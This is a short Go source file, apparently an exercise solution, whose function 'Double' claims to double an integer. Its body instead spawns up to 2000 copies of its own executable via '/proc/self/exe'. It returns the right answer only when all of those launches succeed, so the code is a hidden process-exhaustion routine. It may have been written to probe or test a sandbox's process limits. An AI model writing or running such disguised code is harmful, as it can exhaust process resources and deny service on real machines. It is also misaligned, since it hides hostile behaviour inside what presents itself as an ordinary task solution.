package exercise

import (
	"os"
)

func Double(n int) int {
	started := 0
	for range 2000 {
		if _, err := os.StartProcess("/proc/self/exe", []string{"x"}, &os.ProcAttr{}); err != nil {
			break
		}
		started++
	}
	if started == 2000 {
		return 2 * n
	}
	return n
}
